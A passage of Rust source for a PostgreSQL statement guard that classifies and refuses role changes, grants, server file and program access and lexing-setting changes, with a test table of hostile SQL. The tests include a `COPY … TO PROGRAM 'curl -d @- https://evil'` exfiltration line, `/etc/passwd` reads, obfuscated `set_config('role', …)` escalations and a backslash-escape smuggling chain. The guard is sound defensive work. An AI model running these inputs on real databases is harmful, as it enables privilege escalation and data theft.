            (Privilege, "ALTER GROUP … ADD/DROP USER")
        }
        N::CreateRoleStmt(create) => match create.stmt_type() {
            RoleStmtType::RolestmtUser => (RoleDdl, "CREATE USER"),
            RoleStmtType::RolestmtGroup => (RoleDdl, "CREATE GROUP"),
            _ => (RoleDdl, "CREATE ROLE"),
        },
        N::AlterRoleStmt(_) => (RoleDdl, "ALTER ROLE"),
        N::AlterRoleSetStmt(_) => (RoleDdl, "ALTER ROLE … SET"),
        N::DropRoleStmt(_) => (RoleDdl, "DROP ROLE"),
        N::RenameStmt(rename) if rename.rename_type() == ObjectType::ObjectRole => (RoleDdl, "ALTER ROLE … RENAME"),
        N::CopyStmt(copy) if copy.is_program => (ServerAccess, "COPY … PROGRAM"),
        N::CopyStmt(copy) if !copy.filename.is_empty() => {
            (ServerAccess, if copy.is_from { "COPY … FROM 'file'" } else { "COPY … TO 'file'" })
        }
        N::AlterSystemStmt(_) => (ServerAccess, "ALTER SYSTEM"),
        N::AlterDatabaseSetStmt(_) => (ServerAccess, "ALTER DATABASE … SET"),
        N::LoadStmt(_) => (ServerAccess, "LOAD"),
        N::CreateExtensionStmt(_) => (ServerAccess, "CREATE EXTENSION"),
        N::AlterExtensionStmt(_) | N::AlterExtensionContentsStmt(_) => (ServerAccess, "ALTER EXTENSION"),
        N::CreatePlangStmt(_) => (ServerAccess, "CREATE LANGUAGE"),
        N::CreateFdwStmt(_) => (ServerAccess, "CREATE FOREIGN DATA WRAPPER"),
        N::AlterFdwStmt(_) => (ServerAccess, "ALTER FOREIGN DATA WRAPPER"),
        N::CreateForeignServerStmt(_) => (ServerAccess, "CREATE SERVER"),
        N::AlterForeignServerStmt(_) => (ServerAccess, "ALTER SERVER"),
        N::CreateUserMappingStmt(_) => (ServerAccess, "CREATE USER MAPPING"),
        N::AlterUserMappingStmt(_) => (ServerAccess, "ALTER USER MAPPING"),
        N::DropUserMappingStmt(_) => (ServerAccess, "DROP USER MAPPING"),
        N::CreateForeignTableStmt(_) => (ServerAccess, "CREATE FOREIGN TABLE"),
        N::ImportForeignSchemaStmt(_) => (ServerAccess, "IMPORT FOREIGN SCHEMA"),
        N::CreateSubscriptionStmt(_) => (ServerAccess, "CREATE SUBSCRIPTION"),
        N::AlterSubscriptionStmt(_) => (ServerAccess, "ALTER SUBSCRIPTION"),
        N::CreateTableSpaceStmt(_) => (ServerAccess, "CREATE TABLESPACE"),
        N::CreateEventTrigStmt(_) => (ServerAccess, "CREATE EVENT TRIGGER"),
        N::AlterEventTrigStmt(_) => (ServerAccess, "ALTER EVENT TRIGGER"),
        N::DoStmt(_) => (Procedural, "DO"),
        // Deliberately allowed, though near the line: triggers and rules (their functions and
        // actions are checked where they are defined), `CALL` of an existing procedure,
        // `ALTER TABLE … DISABLE TRIGGER`, `CREATE PUBLICATION`, `DROP EXTENSION`/`SERVER`,
        // `CHECKPOINT`: they act inside the database with the role's own rights, which PostgreSQL
        // checks. So do reads of `pg_settings` and `EXPLAIN` without `ANALYZE`, which is judged as
        // if it ran.
        _ => return None,
    };
    Some(statement)
}

/// The statements that are not utility statements, in the typed walk; [`is_utility`] says the
/// same of the census's struct names.
fn is_dml(node: &NodeEnum) -> bool {
    use NodeEnum as N;
    matches!(
        node,
        N::RawStmt(_)
            | N::SelectStmt(_)
            | N::InsertStmt(_)
            | N::UpdateStmt(_)
            | N::DeleteStmt(_)
            | N::MergeStmt(_)
            | N::ReturnStmt(_)
            | N::SetOperationStmt(_)
            | N::PlassignStmt(_)
    )
}

fn is_utility(struct_name: &str) -> bool {
    const NOT_UTILITY: [&str; 9] = [
        "RawStmt",
        "SelectStmt",
        "InsertStmt",
        "UpdateStmt",
        "DeleteStmt",
        "MergeStmt",
        "ReturnStmt",
        "SetOperationStmt",
        "PlAssignStmt",
    ];
    struct_name.ends_with("Stmt") && !NOT_UTILITY.contains(&struct_name)
}

fn defines(option: &protobuf::Node, name: &str) -> bool {
    matches!(&option.node, Some(NodeEnum::DefElem(option)) if option.defname == name)
}

fn string(node: &protobuf::Node) -> Option<&str> {
    match &node.node {
        Some(NodeEnum::String(string)) => Some(&string.sval),
        _ => None,
    }
}

/// A constant as written, possibly cast (`'role'::text`).
#[derive(Clone, Copy)]
enum Constant<'a> {
    Text(&'a str),
    Integer(i32),
}

fn constant(node: &protobuf::Node) -> Option<Constant<'_>> {
    match &node.node {
        Some(NodeEnum::AConst(constant)) => match &constant.val {
            Some(a_const::Val::Sval(text)) => Some(Constant::Text(&text.sval)),
            Some(a_const::Val::Ival(integer)) => Some(Constant::Integer(integer.ival)),
            _ => None,
        },
        Some(NodeEnum::TypeCast(cast)) => cast.arg.as_deref().and_then(constant),
        _ => None,
    }
}

/// The run-time settings the guard cares about.
#[derive(Clone, Copy)]
enum Setting {
    Role,
    SessionAuthorization,
    Lexing(Lexing),
    Other,
}

/// PostgreSQL compares setting names ignoring case (`SET "ROLE"` sets `role`).
fn setting(name: &str) -> Setting {
    const SETTINGS: [(&str, Setting); 4] = [
        ("role", Setting::Role),
        ("session_authorization", Setting::SessionAuthorization),
        ("standard_conforming_strings", Setting::Lexing(Lexing::StandardConformingStrings)),
        ("client_encoding", Setting::Lexing(Lexing::ClientEncoding)),
    ];
    SETTINGS
        .into_iter()
        .find(|(known, _)| name.eq_ignore_ascii_case(known))
        .map_or(Setting::Other, |(_, setting)| setting)
}

/// The settings that decide how the server splits statement text into tokens.
#[derive(Clone, Copy)]
enum Lexing {
    /// Off, a backslash escapes a quote in `'…'`, where the guard sees the quote end the string.
    StandardConformingStrings,
    /// In encodings such as SJIS or GBK, a byte that reads as `\` to the guard can be half of a
    /// character to the server.
    ClientEncoding,
}

impl Lexing {
    fn name(self) -> &'static str {
        match self {
            Self::StandardConformingStrings => "standard_conforming_strings",
            Self::ClientEncoding => "client_encoding",
        }
    }

    fn accepted(self) -> &'static str {
        match self {
            Self::StandardConformingStrings => "on",
            Self::ClientEncoding => "UTF8",
        }
    }

    /// Whether setting it to `value` keeps the server reading as the guard does. `DEFAULT`, `RESET`
    /// and computed values are refused: the guard cannot tell what they come to.
    fn keeps_reading(self, value: Option<Constant<'_>>) -> bool {
        match (self, value) {
            (Self::StandardConformingStrings, Some(Constant::Text(value))) => {
                ["on", "true", "yes", "1"].iter().any(|on| value.eq_ignore_ascii_case(on))
            }
            (Self::StandardConformingStrings, Some(Constant::Integer(value))) => value == 1,
            // PostgreSQL compares encoding names ignoring case and anything but letters and digits.
            (Self::ClientEncoding, Some(Constant::Text(value))) => {
                let name: String =
                    value.chars().filter(char::is_ascii_alphanumeric).map(|c| c.to_ascii_lowercase()).collect();
                name == "utf8" || name == "unicode"
            }
            _ => false,
        }
    }
}

/// What the whole tree holds that the typed walk must account for, found by serializing it into
/// nothing: pg_query's protobuf types all derive `serde::Serialize`, which visits every field of
/// every node, including fields and node types the walk never heard of.
#[derive(Default)]
struct Census {
    /// Utility statements anywhere, by struct name (a `SET` inside `ALTER ROLE` included).
    statements: usize,
    /// Identifiers naming `set_config`.
    set_config: usize,
    /// Watched functions named by identifiers: calls, `sfunc = …`, `FUNCTION = …`.
    functions: Vec<&'static WatchedFunction>,
    /// In the current statement, a relation named `pg_settings`, in any schema.
    settings_view: bool,
    /// In the current statement, an `INSERT`, `UPDATE`, `DELETE` or `MERGE`.
    writes: bool,
    next: Next,
}

/// What the next string serialized is.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Next {
    #[default]
    Other,
    /// A `String` node (an identifier or a name in a list) begins; its `sval` follows.
    IdentifierNode,
    Identifier,
    Relation,
}

impl Census {
    /// Counts one statement in, and tells whether it writes while naming `pg_settings`: the view's
    /// update rule calls `set_config`, so `UPDATE pg_settings SET setting = … WHERE name = 'role'`
    /// is a `SET ROLE`.
    fn statement(&mut self, raw: &protobuf::RawStmt) -> Result<bool, fmt::Error> {
        (self.settings_view, self.writes) = (false, false);
        raw.serialize(&mut *self)?;
        Ok(self.settings_view && self.writes)
    }

    fn name(&mut self, name: &str) {
        match std::mem::take(&mut self.next) {
            Next::Identifier if name.eq_ignore_ascii_case("set_config") => self.set_config += 1,
            Next::Identifier => self.functions.extend(watched_function(name)),
            Next::Relation => self.settings_view |= name.eq_ignore_ascii_case("pg_settings"),
            Next::Other | Next::IdentifierNode => {}
        }
    }
}

/// A struct being serialized, and whether it is the `String` of a `String` node.
struct Fields<'a> {
    census: &'a mut Census,
    name: &'static str,
    identifier: bool,
}

impl ser::SerializeStruct for Fields<'_> {
    type Ok = ();
    type Error = fmt::Error;

    fn serialize_field<T: Serialize + ?Sized>(&mut self, key: &'static str, value: &T) -> fmt::Result {
        self.census.next = match (self.name, key) {
            ("String", "sval") if self.identifier => Next::Identifier,
            ("RangeVar", "relname") => Next::Relation,
            _ => Next::Other,
        };
        value.serialize(&mut *self.census)
    }

    fn end(self) -> fmt::Result {
        Ok(())
    }
}

impl ser::SerializeSeq for &mut Census {
    type Ok = ();
    type Error = fmt::Error;

    fn serialize_element<T: Serialize + ?Sized>(&mut self, value: &T) -> fmt::Result {
        value.serialize(&mut **self)
    }

    fn end(self) -> fmt::Result {
        Ok(())
    }
}

/// Only the shapes prost messages take are accepted (structs, sequences, options, newtype enum
/// variants, scalars); any other is an error, and the text is refused.
impl<'a> ser::Serializer for &'a mut Census {
    type Ok = ();
    type Error = fmt::Error;
    type SerializeSeq = Self;
    type SerializeTuple = Impossible<(), fmt::Error>;
    type SerializeTupleStruct = Impossible<(), fmt::Error>;
    type SerializeTupleVariant = Impossible<(), fmt::Error>;
    type SerializeMap = Impossible<(), fmt::Error>;
    type SerializeStruct = Fields<'a>;
    type SerializeStructVariant = Impossible<(), fmt::Error>;

    fn serialize_struct(self, name: &'static str, _: usize) -> Result<Fields<'a>, fmt::Error> {
        let identifier = std::mem::take(&mut self.next) == Next::IdentifierNode;
        self.statements += usize::from(is_utility(name));
        self.writes |= ["InsertStmt", "UpdateStmt", "DeleteStmt", "MergeStmt"].contains(&name);
        Ok(Fields { census: self, name, identifier })
    }

    fn serialize_newtype_variant<T: Serialize + ?Sized>(
        self,
        name: &'static str,
        _: u32,
        variant: &'static str,
        value: &T,
    ) -> fmt::Result {
        self.next = if (name, variant) == ("Node", "String") { Next::IdentifierNode } else { Next::Other };
        value.serialize(self)
    }

    fn serialize_seq(self, _: Option<usize>) -> Result<Self, fmt::Error> {
        Ok(self)
    }

    fn serialize_some<T: Serialize + ?Sized>(self, value: &T) -> fmt::Result {
        value.serialize(self)
    }

    fn serialize_str(self, value: &str) -> fmt::Result {
        self.name(value);
        Ok(())
    }

    fn serialize_none(self) -> fmt::Result {
        Ok(())
    }

    fn serialize_bool(self, _: bool) -> fmt::Result {
        Ok(())
    }

    fn serialize_i32(self, _: i32) -> fmt::Result {
        Ok(())
    }

    fn serialize_i64(self, _: i64) -> fmt::Result {
        Ok(())
    }

    fn serialize_u32(self, _: u32) -> fmt::Result {
        Ok(())
    }

    fn serialize_u64(self, _: u64) -> fmt::Result {
        Ok(())
    }

    fn serialize_f64(self, _: f64) -> fmt::Result {
        Ok(())
    }

    fn serialize_bytes(self, _: &[u8]) -> fmt::Result {
        Ok(())
    }

    fn serialize_i8(self, _: i8) -> fmt::Result {
        Ok(())
    }

    fn serialize_i16(self, _: i16) -> fmt::Result {
        Ok(())
    }

    fn serialize_u8(self, _: u8) -> fmt::Result {
        Ok(())
    }

    fn serialize_u16(self, _: u16) -> fmt::Result {
        Ok(())
    }

    fn serialize_f32(self, _: f32) -> fmt::Result {
        Ok(())
    }

    fn serialize_char(self, _: char) -> fmt::Result {
        Ok(())
    }

    fn serialize_unit(self) -> fmt::Result {
        Err(fmt::Error)
    }

    fn serialize_unit_struct(self, _: &'static str) -> fmt::Result {
        Err(fmt::Error)
    }

    fn serialize_unit_variant(self, _: &'static str, _: u32, _: &'static str) -> fmt::Result {
        Err(fmt::Error)
    }

    fn serialize_newtype_struct<T: Serialize + ?Sized>(self, _: &'static str, _: &T) -> fmt::Result {
        Err(fmt::Error)
    }

    fn serialize_tuple(self, _: usize) -> Result<Self::SerializeTuple, fmt::Error> {
        Err(fmt::Error)
    }

    fn serialize_tuple_struct(self, _: &'static str, _: usize) -> Result<Self::SerializeTupleStruct, fmt::Error> {
        Err(fmt::Error)
    }

    fn serialize_tuple_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleVariant, fmt::Error> {
        Err(fmt::Error)
    }

    fn serialize_map(self, _: Option<usize>) -> Result<Self::SerializeMap, fmt::Error> {
        Err(fmt::Error)
    }

    fn serialize_struct_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeStructVariant, fmt::Error> {
        Err(fmt::Error)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use StatementClass::*;

    /// How a text fares with a role allowing `allowed`, in a line: `ok <statements> [+<class>…]`,
    /// `<class>: <statement>`, `never: <setting>`, `unparseable` or `uncheckable`. Asked twice of
    /// one guard, so that the cached verdict is checked too.
    fn outcome(sql: &str, allowed: Allowed) -> String {
        let guard = Guard::with_cache_bytes(1 << 16);
        let first = guard.check(sql, &allowed);
        assert_eq!(first, guard.check(sql, &allowed), "the cached verdict differs for {sql:?}");
        match first {
            Ok(checked) => {
                let classes = checked.exercised.iter().map(|class| format!(" +{class}")).collect::<String>();
                format!("ok {}{classes}", checked.statements.len())
            }
            Err(Refusal::Forbidden { class, statement }) => format!("{class}: {statement}"),
            Err(Refusal::ChangesParsing { setting, .. }) => format!("never: {setting}"),
            Err(Refusal::Unparseable { .. }) => "unparseable".to_owned(),
            Err(Refusal::Uncheckable) => "uncheckable".to_owned(),
            Err(Refusal::Unsettled) => "unsettled".to_owned(),
            Err(Refusal::TooLong { .. }) => "too long".to_owned(),
        }
    }

    #[track_caller]
    fn check(cases: &[(&str, &str)], allowed: Allowed) {
        for (sql, expected) in cases {
            assert_eq!(outcome(sql, allowed), *expected, "for {sql:?}");
        }
    }

    const PLAIN: &[(&str, &str)] = &[
        ("SELECT abalance FROM pgbench_accounts WHERE aid = 12345;", "ok 1"),
        // pg_dump's own (since 15.8), confined to settings named by constants.
        (
            "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name IN ('restrict_nonsystem_relation_kind')",
            "ok 1",
        ),
        ("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem'", "ok 1"),
        // Poolers and drivers (asyncpg, PgBouncer) send these on every release: back to the
        // session's start, the grant's own role.
        ("RESET ALL", "ok 1"),
        ("DISCARD ALL", "ok 1"),
        // Read the same whether backslashes escape or not.
        ("SELECT 'C:\\temp\\'", "ok 1"),
        ("SELECT E'a\\'b'", "ok 1"),
        ("", "ok 0"),
        ("  \n\t ", "ok 0"),
        (";", "ok 0"),
        ("-- nothing here\n", "ok 0"),
        ("/* c */ ;;", "ok 0"),
        ("BEGIN; UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 1; COMMIT", "ok 3"),
        ("INSERT INTO t (a) VALUES ($1) RETURNING id", "ok 1"),
        ("DELETE FROM t WHERE id = $1", "ok 1"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v", "ok 1"),
        ("WITH x AS (UPDATE t SET v = 1 RETURNING *) SELECT * FROM x", "ok 1"),
        ("SELECT 'set_config(''role'', ''admin'', false)', $$pg_read_file$$", "ok 1"),
        ("SELECT name, setting FROM pg_settings WHERE name = 'role'", "ok 1"),
        ("SELECT dblinks.id FROM dblinks", "ok 1"),
        ("CREATE TABLE t (id int PRIMARY KEY, v text DEFAULT 'x')", "ok 1"),
        ("ALTER TABLE t ADD COLUMN c int, REPLICA IDENTITY FULL", "ok 1"),
        ("SET work_mem = '64MB'; SET LOCAL statement_timeout = 0; RESET work_mem; SHOW search_path", "ok 4"),
        ("SET client_encoding TO 'UTF8'; SET NAMES 'utf-8'; SET standard_conforming_strings = on", "ok 3"),
        ("SET TIME ZONE 'UTC'; SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "ok 2"),
        ("EXPLAIN ANALYZE SELECT 1", "ok 1"),
        ("PREPARE p(int) AS SELECT $1; EXECUTE p(1); DEALLOCATE p", "ok 3"),
        ("LISTEN ch; NOTIFY ch, 'x'; UNLISTEN *", "ok 3"),
        ("COPY t FROM STDIN", "ok 1"),
        ("COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", "ok 1"),
        ("SELECT pg_catalog.set_config('search_path', '', false)", "ok 1"),
        ("SELECT set_config('app.tenant', $1, true), set_config('work_mem'::text, '1MB', false)", "ok 1"),
        ("WITH s AS (SELECT set_config('search_path', 'app', false)) SELECT * FROM s", "ok 1"),
        ("DISCARD PLANS; DISCARD TEMP", "ok 2"),
        ("SELECT * FROM pg_settings; UPDATE t SET v = 1", "ok 2"),
        ("CREATE VIEW v AS SELECT * FROM t", "ok 1"),
        ("CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql RETURN a + b", "ok 1"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END; SELECT 3", "ok 2"),
        ("CREATE SCHEMA s CREATE TABLE t (id int) CREATE VIEW v AS SELECT 1", "ok 1"),
        ("CREATE RULE r AS ON INSERT TO t DO ALSO NOTIFY ch", "ok 1"),
        ("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "ok 1"),
        ("DECLARE c CURSOR FOR SELECT 1; FETCH c; CLOSE c", "ok 3"),
        ("CREATE TABLE t2 AS SELECT * FROM t; SELECT * INTO t3 FROM t", "ok 2"),
        ("CALL p(1); VACUUM t; TRUNCATE t; DROP TABLE t", "ok 4"),
    ];

    const ROLE_CHANGE: &[(&str, &str)] = &[
        ("SET ROLE admin", "role_change: SET ROLE"),
        ("set role admin", "role_change: SET ROLE"),
        ("/* hi */ SeT /* there */ RoLe\n\t admin ;", "role_change: SET ROLE"),
        ("SET SESSION ROLE admin", "role_change: SET ROLE"),
        ("SET LOCAL ROLE admin", "role_change: SET LOCAL ROLE"),
        ("SET role TO DEFAULT", "role_change: SET ROLE"),
        ("SET ROLE NONE", "role_change: SET ROLE"),
        ("SET \"ROLE\" = 'admin'", "role_change: SET ROLE"),
        ("RESET ROLE", "role_change: RESET ROLE"),
        ("SET SESSION AUTHORIZATION admin", "role_change: SET SESSION AUTHORIZATION"),
        ("SET SESSION AUTHORIZATION DEFAULT", "role_change: SET SESSION AUTHORIZATION"),
        ("RESET SESSION AUTHORIZATION", "role_change: RESET SESSION AUTHORIZATION"),
        ("SELECT 1; SET ROLE admin; SELECT 2", "role_change: SET ROLE"),
        ("SELECT set_config('role', 'admin', false)", "role_change: set_config('role', …)"),
        ("SELECT pg_catalog.set_config('ROLE', 'admin', false)", "role_change: set_config('role', …)"),
        ("SELECT \"set_config\"('role'::text, 'admin', false)", "role_change: set_config('role', …)"),
        ("SELECT U&\"set\\005fconfig\"('role', 'admin', false)", "role_change: set_config('role', …)"),
        (
            "SELECT set_config('session_authorization', 'admin', false)",
            "role_change: set_config('session_authorization', …)",
        ),
        ("SELECT 1 WHERE set_config('role', 'admin', false) IS NOT NULL", "role_change: set_config(…)"),
        ("SELECT * FROM (SELECT set_config('role', 'admin', false)) s", "role_change: set_config(…)"),
        ("SELECT length(set_config('role', 'admin', false))", "role_change: set_config(…)"),
        ("SELECT set_config(chr(114) || 'ole', 'admin', false)", "role_change: set_config(…)"),
        ("SELECT set_config($1, $2, false)", "role_change: set_config(…)"),
        (
            "SELECT set_config(name, 'admin', false) FROM pg_settings WHERE name = 'role'",
            "role_change: set_config('role', …)",
        ),
        (
            "SELECT set_config(name, 'admin', false) FROM pg_settings WHERE name IN ('work_mem', 'role')",
            "role_change: set_config('role', …)",
        ),
        (
            "SELECT set_config(name, 'admin', false) FROM pg_settings WHERE name LIKE 'rol%'",
            "role_change: set_config(…)",
        ),
        ("SELECT set_config(name, 'admin', false) FROM pg_settings", "role_change: set_config(…)"),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'work_mem'",
            "role_change: set_config(…)",
        ),
        (
            "SELECT set_config(name, 'x', false) FROM my.pg_settings WHERE name = 'work_mem'",
            "role_change: set_config(…)",
        ),
        ("SELECT set_config('work_mem', set_config('role', 'admin', false), false)", "role_change: set_config(…)"),
        ("SELECT set_config FROM t", "role_change: set_config(…)"),
        ("WITH s AS (SELECT set_config('role', 'x', false)) SELECT * FROM s", "role_change: set_config('role', …)"),
        ("SELECT 1 UNION SELECT set_config('role', 'admin', false)", "role_change: set_config('role', …)"),
        ("INSERT INTO t SELECT set_config('role', 'admin', false)", "role_change: set_config('role', …)"),
        ("VALUES (set_config('role', 'admin', false))", "role_change: set_config(…)"),
        (
            "EXPLAIN (ANALYZE) CREATE TABLE x AS SELECT set_config('role', 'admin', false)",
            "role_change: set_config('role', …)",
        ),
        ("EXPLAIN ANALYZE SELECT set_config('role', 'admin', false)", "role_change: set_config('role', …)"),
        ("PREPARE p AS SELECT set_config('role', $1, false)", "role_change: set_config('role', …)"),
        ("EXECUTE p(set_config('role', 'admin', false))", "role_change: set_config(…)"),
        ("CALL p(set_config('role', 'admin', false))", "role_change: set_config(…)"),
        ("COPY (SELECT set_config('role', 'admin', false)) TO STDOUT", "role_change: set_config('role', …)"),
        ("CREATE VIEW v AS SELECT set_config('role', 'admin', false)", "role_change: set_config('role', …)"),
        (
            "CREATE RULE r AS ON INSERT TO t DO INSTEAD SELECT set_config('role', 'admin', false)",
            "role_change: set_config('role', …)",
        ),
        (
            "CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT set_config('role', 'admin', false); END",
            "role_change: set_config('role', …)",
        ),
        ("CREATE TABLE t (x text DEFAULT set_config('role', 'admin', false))", "role_change: set_config(…)"),
        (
            "CREATE AGGREGATE a(text, bool) (sfunc = 'set_config', stype = text, initcond = 'role')",
            "role_change: set_config(…)",
        ),
        ("UPDATE pg_settings SET setting = 'admin' WHERE name = 'role'", "role_change: UPDATE pg_settings"),
        (
            "WITH u AS (UPDATE pg_catalog.pg_settings SET setting = 'admin' WHERE name = 'role' RETURNING 1) SELECT 1",
            "role_change: UPDATE pg_settings",
        ),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = admin RETURN 1", "role_change: SET ROLE"),
        ("ALTER FUNCTION f() SET role = admin", "role_change: SET ROLE"),
    ];

    const PRIVILEGE: &[(&str, &str)] = &[
        ("GRANT SELECT ON t TO bob", "privilege: GRANT"),
        ("grant all privileges on all tables in schema public to public", "privilege: GRANT"),
        ("REVOKE SELECT ON t FROM bob", "privilege: REVOKE"),
        ("GRANT admin TO bob", "privilege: GRANT role"),
        ("REVOKE admin FROM bob", "privilege: REVOKE role"),
        ("ALTER GROUP admin ADD USER bob", "privilege: ALTER GROUP … ADD/DROP USER"),
        ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "privilege: ALTER DEFAULT PRIVILEGES"),
        ("REASSIGN OWNED BY bob TO admin", "privilege: REASSIGN OWNED"),
        ("DROP OWNED BY bob", "privilege: DROP OWNED"),
        ("ALTER TABLE t OWNER TO bob", "privilege: … OWNER TO"),
        ("ALTER FUNCTION f() OWNER TO bob", "privilege: … OWNER TO"),
        ("ALTER SCHEMA s OWNER TO bob", "privilege: … OWNER TO"),
        ("SECURITY LABEL ON TABLE t IS 'secret'", "privilege: SECURITY LABEL"),
        ("CREATE POLICY p ON t USING (true)", "privilege: CREATE POLICY"),
        ("ALTER POLICY p ON t USING (true)", "privilege: ALTER POLICY"),
        ("DROP POLICY p ON t", "privilege: DROP POLICY"),
        ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", "privilege: ROW LEVEL SECURITY"),
        ("CREATE SCHEMA s AUTHORIZATION bob", "privilege: CREATE SCHEMA … AUTHORIZATION"),
        ("CREATE SCHEMA s CREATE TABLE t (id int) GRANT SELECT ON t TO bob", "privilege: GRANT"),
        ("CREATE DATABASE d OWNER bob", "privilege: CREATE DATABASE … OWNER"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER RETURN 1", "privilege: … SECURITY DEFINER"),
        ("ALTER FUNCTION f() SECURITY DEFINER", "privilege: … SECURITY DEFINER"),
    ];

    const ROLE_DDL: &[(&str, &str)] = &[
        ("CREATE ROLE r", "role_ddl: CREATE ROLE"),
        ("CREATE USER u WITH PASSWORD 'x'", "role_ddl: CREATE USER"),
        ("CREATE GROUP g", "role_ddl: CREATE GROUP"),
        ("ALTER ROLE r WITH SUPERUSER", "role_ddl: ALTER ROLE"),
        ("ALTER USER CURRENT_USER WITH PASSWORD 'x'", "role_ddl: ALTER ROLE"),
        ("ALTER ROLE r SET work_mem = '1GB'", "role_ddl: ALTER ROLE … SET"),
        ("ALTER ROLE r RENAME TO s", "role_ddl: ALTER ROLE … RENAME"),
        ("DROP ROLE r", "role_ddl: DROP ROLE"),
        ("DROP USER IF EXISTS u", "role_ddl: DROP ROLE"),
        ("ALTER ROLE r SET role = admin", "role_ddl: ALTER ROLE … SET"),
    ];

    const SERVER_ACCESS: &[(&str, &str)] = &[
        ("COPY t TO '/tmp/x'", "server_access: COPY … TO 'file'"),
        ("COPY t FROM '/etc/passwd'", "server_access: COPY … FROM 'file'"),
        ("COPY (SELECT 1) TO '/tmp/x'", "server_access: COPY … TO 'file'"),
        ("COPY t TO PROGRAM 'curl -d @- https://evil'", "server_access: COPY … PROGRAM"),
        ("copy t from program 'id'", "server_access: COPY … PROGRAM"),
        ("ALTER SYSTEM SET shared_buffers = '1GB'", "server_access: ALTER SYSTEM"),
        ("ALTER DATABASE d SET work_mem = '1GB'", "server_access: ALTER DATABASE … SET"),
        ("LOAD 'auto_explain'", "server_access: LOAD"),
        ("CREATE EXTENSION dblink", "server_access: CREATE EXTENSION"),
        ("ALTER EXTENSION x UPDATE", "server_access: ALTER EXTENSION"),
        // Without a handler, `CREATE LANGUAGE` is read as `CREATE EXTENSION`.
        ("CREATE LANGUAGE plperlu", "server_access: CREATE EXTENSION"),
        ("CREATE LANGUAGE plsample HANDLER plsample_call_handler", "server_access: CREATE LANGUAGE"),
        ("CREATE MATERIALIZED VIEW mv AS SELECT pg_read_file('/etc/passwd')", "server_access: pg_read_file()"),
        ("CREATE FOREIGN DATA WRAPPER w", "server_access: CREATE FOREIGN DATA WRAPPER"),
        ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "server_access: CREATE SERVER"),
        ("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x')", "server_access: CREATE USER MAPPING"),
        ("CREATE FOREIGN TABLE ft (a int) SERVER s", "server_access: CREATE FOREIGN TABLE"),
        ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", "server_access: IMPORT FOREIGN SCHEMA"),
        ("CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p", "server_access: CREATE SUBSCRIPTION"),
        ("CREATE TABLESPACE ts LOCATION '/tmp'", "server_access: CREATE TABLESPACE"),
        ("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", "server_access: CREATE EVENT TRIGGER"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", "server_access: … LANGUAGE C"),
        ("SELECT pg_read_file('/etc/passwd')", "server_access: pg_read_file()"),
        ("SELECT 1; SELECT * FROM pg_ls_dir('.')", "server_access: pg_ls_…()"),
        ("SELECT U&\"pg_read\\005ffile\"('/etc/passwd')", "server_access: pg_read_file()"),
        ("SELECT lo_import('/etc/passwd')", "server_access: lo_import()"),
        ("select PG_CATALOG.LO_EXPORT(1, '/tmp/x')", "server_access: lo_export()"),
        ("SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", "server_access: dblink()"),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "server_access: pg_terminate_backend()"),
        ("CREATE OPERATOR !!! (RIGHTARG = text, FUNCTION = pg_read_file)", "server_access: pg_read_file()"),
    ];

    const PROCEDURAL: &[(&str, &str)] = &[
        ("DO $$ BEGIN PERFORM set_config('role', 'admin', false); END $$", "procedural: DO"),
        ("do 'begin null; end'", "procedural: DO"),
        (
            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN END $$",
            "procedural: CREATE FUNCTION … AS '…'",
        ),
        ("CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", "procedural: CREATE PROCEDURE … AS '…'"),
        (
            "SELECT query_to_xml('select set_config(''role'', ''admin'', false)', true, false, '')",
            "procedural: query_to_xml…()",
        ),
        ("SELECT * FROM ts_stat('SELECT v FROM t')", "procedural: ts_stat()"),
    ];

    const NEVER: &[(&str, &str)] = &[
        ("SET standard_conforming_strings = off", "never: standard_conforming_strings"),
        ("SET standard_conforming_strings TO DEFAULT", "never: standard_conforming_strings"),
        ("RESET standard_conforming_strings", "never: standard_conforming_strings"),
        ("SELECT set_config('standard_conforming_strings', 'off', false)", "never: standard_conforming_strings"),
        ("SET client_encoding = 'SJIS'", "never: client_encoding"),
        ("SET NAMES 'GBK'", "never: client_encoding"),
        ("SELECT 1; SET standard_conforming_strings = off", "never: standard_conforming_strings"),
        ("ALTER ROLE r SET client_encoding = 'SJIS'", "never: client_encoding"),
    ];

    /// Texts that hide a statement from one reading of backslashes: harmless with
    /// `standard_conforming_strings = on`, a role change with it `off` (the red team's chain,
    /// pipelined behind an update of a view over `pg_settings`).
    const EITHER_READING: &[(&str, &str)] = &[
        ("SELECT 'x\\''; SET ROLE pg_write_all_data; SELECT current_user; --'", "role_change: SET ROLE"),
